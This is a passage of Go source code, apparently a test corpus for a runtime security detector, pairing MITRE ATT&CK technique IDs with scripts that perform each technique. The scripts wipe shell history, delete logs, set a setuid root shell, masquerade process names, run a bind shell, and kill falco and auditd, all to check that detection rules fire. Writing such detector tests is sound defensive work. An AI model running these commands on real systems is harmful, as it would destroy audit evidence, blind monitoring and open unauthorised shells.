		Script: `printf '# bulkhead corpus\n' > $D/u.service && mv $D/u.service /etc/systemd/system/bulkhead-corpus-$N.service; r=$?; rm -f /etc/systemd/system/bulkhead-corpus-$N.service; exit $r`},
	{ID: "T1070.003", Name: "history linked to /dev/null (ln -sf)",
		Expect: []string{"rules/history_disabled_command", "rules/shell_history_removed"},
		Script: `ln -sf /dev/null $H/.bash_history`},
	{ID: "T1070.003", Name: "history turned off in a shell (unset HISTFILE; history -c)",
		Expect: []string{"rules/history_disabled_command"},
		Script: `bash -c 'unset HISTFILE; history -c'`},

	// ---- The same effects from a program's own syscalls (issue 16's kinds).
	{ID: "T1070.004", Name: "running payload deletes its own binary (os.remove)",
		Expect: []string{"tmpexec/self-deleting-binary"},
		Script: `cp /usr/bin/python3 $W/payload && $W/payload -c 'import os, sys; os.remove(sys.argv[1])' $W/payload`},
	{ID: "T1070.002", Name: "log file deleted by a program (os.remove)", Globs: []string{"/var/log/bulkhead-corpus-*"},
		Expect: []string{"rules/log_file_removed"},
		Script: `f=/var/log/bulkhead-corpus-$N.log; echo entry >> $f && $PY -c 'import os, sys; os.remove(sys.argv[1])' $f`},
	{ID: "T1070.002", Name: "log file emptied by truncate(2) from a program", Globs: []string{"/var/log/bulkhead-corpus-*"},
		Expect: []string{"rules/log_file_cleared"},
		Script: `f=/var/log/bulkhead-corpus-$N.log; echo entry >> $f && $PY -c 'import os, sys; os.truncate(sys.argv[1], 0)' $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1548.001", Name: "setuid bit set by a program (os.chmod 0o4755)",
		Expect: []string{"privesc/setuid-bit-set"},
		Script: `cp /bin/dash $W/rootsh && $PY -c 'import os, sys; os.chmod(sys.argv[1], 0o4755)' $W/rootsh`},
	{ID: "T1070.006", Name: "file times set by a program (os.utime)", Needs: "utimensat (not in issue 16's list)",
		Script: `printf x > $W/f && $PY -c 'import os, sys; os.utime(sys.argv[1], (978307200, 978307200))' $W/f`},
	{ID: "T1543.002", Name: "systemd unit renamed into place by a program (os.rename)",
		Globs:  []string{"/etc/systemd/system/bulkhead-corpus-*", "/etc/bulkhead-corpus-*"},
		Expect: []string{"persistence/systemd-unit-write"},
		Script: `f=/etc/systemd/system/bulkhead-corpus-$N.service; t=/etc/bulkhead-corpus-$N.tmp; printf '# bulkhead corpus\n' > $t && $PY -c 'import os, sys; os.rename(sys.argv[1], sys.argv[2])' $t $f; r=$?; rm -f $f $t; exit $r`},
	{ID: "T1070.003", Name: "history replaced by a symlink from a program (os.symlink)",
		Expect: []string{"rules/shell_history_removed"},
		Script: `$PY -c 'import os, sys; os.symlink("/dev/null", sys.argv[1])' $H/.zsh_history`},
	{ID: "T1070.003", Name: "history deleted by a program (os.remove)",
		Expect: []string{"rules/shell_history_removed"},
		Script: `$PY -c 'import os, sys; os.remove(sys.argv[1])' $H/.bash_history`},
	{ID: "T1070.003", Name: "shell started without history (HISTFILE=/dev/null)",
		Expect: []string{"rules/history_disabled_env"},
		Script: `HISTFILE=/dev/null bash -c true`},
	{ID: "T1070.003", Name: "shell started with HISTSIZE=0",
		Expect: []string{"rules/history_disabled_env"},
		Script: `HISTSIZE=0 bash -c true`},
	{ID: "T1090", Name: "proxy injected into a program's environment",
		Expect: []string{"rules/proxy_env_injected"},
		Script: `https_proxy=http://10.213.0.1:3128 /bin/true`},
	{ID: "T1622", Name: "anti-debugging with PTRACE_TRACEME",
		Expect: []string{"ptrace/ptrace-traceme"},
		Script: `$PY -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'`},
	{ID: "T1036.004", Name: "process renamed to a kernel thread's name with prctl(PR_SET_NAME)",
		Expect: []string{"rules/masquerading_rename"},
		Script: `$PY -c 'import ctypes; ctypes.CDLL(None).prctl(15, b"kworker/0:1", 0, 0, 0)'`},
	{ID: "T1036.004", Name: "process renamed to sshd with prctl(PR_SET_NAME)",
		Expect: []string{"rules/masquerading_rename"},
		Script: `$PY -c 'import ctypes; ctypes.CDLL(None).prctl(15, b"sshd", 0, 0, 0)'`},
	{ID: "T1611", Name: "tmpfs mounted from a container in a new mount namespace (unshare -m + mount)", Container: true,
		Expect: []string{"privesc/container-escape"},
		Script: `mkdir $D/m && unshare -m sh -c "mount -t tmpfs none $D/m && umount $D/m"`},
	{ID: "T1059.004", Name: "bind shell: a connection accepted, then sh -i", NetNS: true,
		Expect: []string{"outbound/bind-shell"},
		Script: `$PY -c '
import os, socket, subprocess, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 4445)); s.listen(1); s.settimeout(10)
if os.fork() == 0:
    c = socket.create_connection((sys.argv[1], 4445)); c.sendall(b"exit\n"); c.recv(10); os._exit(0)
c, _ = s.accept()
subprocess.call(["/bin/sh", "-i"], stdin=c, stdout=c, stderr=c)
os.wait()' $REMOTE`},
	{ID: "T1059", Name: "netcat-like listener on every address (python copied as nc)", NetNS: true,
		Expect: []string{"outbound/netcat-listener"},
		Script: `cp /usr/bin/python3 $W/nc && $W/nc -c 'import socket; s = socket.socket(); s.bind(("0.0.0.0", 4446)); s.listen(1); s.close()'`},
	{ID: "T1040", Name: "packet socket opened for sniffing", NetNS: true,
		Expect: []string{"rules/raw_socket_opened"},
		Script: `$PY -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()'`},
	{ID: "T1040", Name: "raw IP socket opened", NetNS: true,
		Expect: []string{"rules/raw_socket_opened"},
		Script: `$PY -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP).close()'`},
	{ID: "T1562.001", Name: "monitoring agent killed by signal",
		Expect: []string{"rules/security_agent_killed"},
		Script: `cp /bin/sleep $W/falco && $W/falco 5 & sleep 0.2; kill -TERM $! ; wait; true`},
	{ID: "T1562.001", Name: "audit daemon stopped with SIGSTOP",
		Expect: []string{"rules/security_agent_killed"},
		Script: `cp /bin/sleep $W/auditd && $W/auditd 5 & sleep 0.2; kill -STOP $!; kill -KILL $!; wait; true`},
	{ID: "T1068", Name: "userfaultfd from an unprivileged user",
		Expect: []string{"privesc/userfaultfd-unprivileged"},
		Script: `setpriv --reuid=65534 --regid=65534 --clear-groups $PY -c 'import ctypes; ctypes.CDLL(None).syscall(323, 0)'`},
}

// noKexecTracepoints says why kexec loads cannot be seen here (with the
// exit program on per-syscall tracepoints, the default).
func noKexecTracepoints() string {
	if _, err := os.Stat("/sys/kernel/tracing/events/syscalls/sys_exit_kexec_file_load"); err != nil {
		return "the kernel has no kexec_load/kexec_file_load tracepoints"
	}
	return ""
}

// noModuleTracepoints says why module loads cannot be seen here.
func noModuleTracepoints() string {
	if _, err := os.Stat("/sys/kernel/tracing/events/syscalls/sys_exit_finit_module"); err != nil {
		return "the kernel has no init_module/finit_module tracepoints"
	}
	return ""
}
